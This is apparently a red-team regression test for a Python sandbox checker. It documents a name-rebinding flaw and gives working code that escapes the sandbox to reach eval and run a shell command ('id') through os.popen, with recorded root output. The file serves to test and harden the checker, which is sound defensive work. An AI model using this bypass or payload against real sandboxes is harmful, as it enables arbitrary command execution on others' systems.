# expect: reject unbound
# line: 28
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_15)
# Mechanism: rule unbound's libclass_ident (names.c) asks first whether the name has an import 
# binding (wk_bound_value) and then judges only that import: 'from typing import Any as K' is 
# harmless, so the second binding 'K = collections.Counter' (a library class bound to a plain name, 
# allowed) is never looked at. K.copy(P) is Counter.copy(P), the plain function with a foreign 
# self: P.__class__(P), the builtin type. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing
from typing import Any as K

K = collections.Counter


class P:
    pass


T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
